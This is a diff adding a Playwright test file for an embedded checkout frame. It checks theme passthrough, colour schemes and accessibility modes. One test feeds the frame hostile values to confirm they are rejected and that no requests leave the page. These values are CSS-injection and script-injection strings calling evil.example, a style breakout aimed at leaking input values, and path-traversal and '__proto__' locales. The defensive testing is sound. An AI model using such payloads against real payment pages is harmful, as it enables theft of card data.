@@ -1,0 +1,233 @@
+import type { Frame, Page } from '@playwright/test';
+
+import { expect, test } from '../stack.ts';
+
+/** What an accent, a radius and a font may not be (T22). */
+const HOSTILE: Record<string, string>[] = [
+  {
+    accent: 'url(https://evil.example/a)',
+    radius: 'calc(1px * 900)',
+    font: 'x;} input{background:url(https://evil.example/?',
+  },
+  {
+    accent: '#0b6b4f;background:url(https://evil.example/b)',
+    radius: '-4px',
+    font: `${'x'.repeat(10_000)}`,
+  },
+  {
+    accent: 'var(--evil, url(https://evil.example/c))',
+    radius: 'url(https://evil.example/d)',
+    font: 'url(https://evil.example/e)',
+  },
+  {
+    accent: 'image-set("https://evil.example/f" 1x)',
+    radius: '99999999px',
+    font: '</style><script src=//evil.example>',
+  },
+];
+
+const PLAIN = { accent: 'rgb(11, 107, 79)', radius: '10px', font: 'system-ui' };
+
+test('takes no more than a colour, a length and names of fonts from a page, and a language it knows (T22)', async ({
+  page,
+  popup,
+  shop,
+  site,
+}) => {
+  test.slow();
+  const strangers: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('evil')) strangers.push(request.url());
+  });
+  for (const [index, theme] of HOSTILE.entries()) {
+    await page.goto(site.url);
+    await setTheme(page, theme);
+    await site.pay(page, {
+      ...(await shop.order()),
+      locale: ['../../x', '__proto__', 'constructor', 'x'.repeat(10_000)][index],
+    });
+    await popup.expectOpen();
+
+    expect(await lookOf(frameOf(page)), JSON.stringify(theme).slice(0, 80)).toEqual(PLAIN);
+    expect(await frameOf(page).evaluate(() => document.documentElement.lang)).toBe('en');
+  }
+  expect(strangers).toEqual([]);
+});
+
+test('carries accent, radius and font into the frame, and follows the system while it is open', async ({
+  page,
+  popup,
+  shop,
+  site,
+}) => {
+  await page.emulateMedia({ colorScheme: 'light' });
+  await page.goto(site.url);
+  await setTheme(page, {
+    accent: 'rebeccapurple',
+    radius: '6px',
+    font: "Georgia, 'Times New Roman'",
+  });
+  await site.pay(page, await shop.order());
+  await popup.expectOpen();
+  expect(await lookOf(frameOf(page))).toEqual({
+    accent: 'rgb(102, 51, 153)',
+    radius: '4px',
+    font: 'Georgia',
+  });
+
+  for (const [colorScheme, surface] of [
+    ['light', 'rgb(255, 255, 255)'],
+    ['dark', 'rgb(21, 25, 28)'],
+    ['light', 'rgb(255, 255, 255)'],
+  ] as const) {
+    await page.emulateMedia({ colorScheme });
+    await expect.poll(() => surfacesOf(page)).toEqual([surface, surface]);
+  }
+});
+
+for (const [system, declared] of [
+  ['dark', 'light'],
+  ['light', 'dark'],
+  ['dark', 'light dark'],
+] as const) {
+  test(`is ${system} in a ${system} system on a page that says it is ${declared}, without a flash of another ground`, async ({
+    page,
+    popup,
+    shop,
+    site,
+  }) => {
+    await page.emulateMedia({ colorScheme: system });
+    await page.goto(site.url);
+    await page.evaluate(
+      (scheme) => document.documentElement.style.setProperty('color-scheme', scheme),
+      declared,
+    );
+    await site.pay(page, await shop.order());
+    await popup.expectOpen();
+    const surface = system === 'dark' ? 'rgb(21, 25, 28)' : 'rgb(255, 255, 255)';
+    expect(await surfacesOf(page)).toEqual([surface, surface]);
+
+    // The frame of a page without anything in it is seen through: it has no white ground of its
+    // own.
+    await frameOf(page).evaluate(() => document.body.replaceChildren());
+    const box = (await popup.dialog.boundingBox())!;
+    const clip = { x: box.x + box.width / 2, y: box.y + box.height / 2, width: 1, height: 1 };
+    await expect.poll(async () => colourOf(page, await page.screenshot({ clip }))).toBe(surface);
+  });
+}
+
+test.describe('where colours are the system’s own', () => {
+  test.use({ contextOptions: { forcedColors: 'active' } });
+
+  test('the focus, the chosen, the borders and the signs can be seen', async ({
+    page,
+    popup,
+    shop,
+    site,
+  }) => {
+    await site.pay(page, await shop.order());
+    await popup.expectOpen();
+    const seen = await frameOf(page).evaluate(() => {
+      const roots = [document.querySelector('checkout-app')!.shadowRoot!];
+      for (const root of roots)
+        for (const { shadowRoot } of root.querySelectorAll('*'))
+          if (shadowRoot) roots.push(shadowRoot);
+      const find = (selector: string) =>
+        roots.flatMap((root) => [...root.querySelectorAll<HTMLElement>(selector)]);
+      const ground = getComputedStyle(find('input')[0]!).backgroundColor;
+      const number = find('[name=number]')[0]!;
+      number.focus();
+      return {
+        focus: getComputedStyle(number).outlineStyle,
+        chosen: find('.choice').map((choice) => getComputedStyle(choice).outlineStyle),
+        boxes: find('input:not([type=radio]), button').filter(
+          (box) => getComputedStyle(box).borderTopColor === ground,
+        ).length,
+        signs: find('svg').filter((sign) => getComputedStyle(sign).stroke === ground).length,
+      };
+    });
+    expect(seen).toEqual({ focus: 'solid', chosen: ['solid', 'none'], boxes: 0, signs: 0 });
+  });
+});
+
+test.describe('where somebody wants more contrast and less motion', () => {
+  test.use({ contextOptions: { contrast: 'more', reducedMotion: 'reduce' } });
+
+  test('hints are written as strongly as words, and nothing moves when an alert appears', async ({
+    page,
+    popup,
+    shop,
+    site,
+  }) => {
+    await site.pay(page, await shop.order());
+    await popup.payByCard('4000 0000 0000 0002');
+    await popup.expectDeclined('Card declined');
+
+    const { colours, moving } = await frameOf(page).evaluate(() => {
+      const form = document
+        .querySelector('checkout-app')!
+        .shadowRoot!.querySelector('pay-form')!
+        .shadowRoot!.querySelector('card-form')!;
+      const colourAt = (selector: string) =>
+        getComputedStyle(form.shadowRoot!.querySelector(selector)!).color;
+      return {
+        colours: [colourAt('.note'), colourAt('label')],
+        moving: document.getAnimations().length,
+      };
+    });
+    expect(colours[0]).toBe(colours[1]);
+    expect(moving).toBe(0);
+  });
+});
+
+function frameOf(page: Page): Frame {
+  return page.frames().find((frame) => frame.url().includes('/checkout/v1/'))!;
+}
+
+async function setTheme(page: Page, theme: Record<string, string>): Promise<void> {
+  await page.evaluate((values) => {
+    for (const [name, value] of Object.entries(values))
+      document.documentElement.style.setProperty(`--service-pay-${name}`, value);
+  }, theme);
+}
+
+/** What of a theme can be seen on the button that pays. */
+async function lookOf(frame: Frame): Promise<Record<string, string>> {
+  return frame.locator('button[type=submit]').evaluate((button) => {
+    const { backgroundColor, borderTopLeftRadius, fontFamily } = getComputedStyle(button);
+    return {
+      accent: backgroundColor,
+      radius: borderTopLeftRadius,
+      font: fontFamily.split(',')[0]!,
+    };
+  });
+}
+
+/** The ground of the page's card and of the frame. */
+async function surfacesOf(page: Page): Promise<string[]> {
+  const card = await page
+    .locator('dialog .card')
+    .evaluate((element) => getComputedStyle(element).backgroundColor);
+  return [
+    card,
+    await frameOf(page).evaluate(
+      () => getComputedStyle(document.querySelector('checkout-app')!).backgroundColor,
+    ),
+  ];
+}
+
+/** The colour of a picture of one pixel, read in a document whose policy allows it. */
+async function colourOf(page: Page, picture: Buffer): Promise<string> {
+  const reader = await page.context().newPage();
+  const colour = await reader.evaluate(
+    async (bytes) => {
+      const bitmap = await createImageBitmap(new Blob([new Uint8Array(bytes)]));
+      const canvas = new OffscreenCanvas(1, 1).getContext('2d')!;
+      canvas.drawImage(bitmap, 0, 0);
+      return `rgb(${[...canvas.getImageData(0, 0, 1, 1).data.slice(0, 3)].join(', ')})`;
+    },
+    [...picture],
+  );
+  await reader.close();
+  return colour;
+}
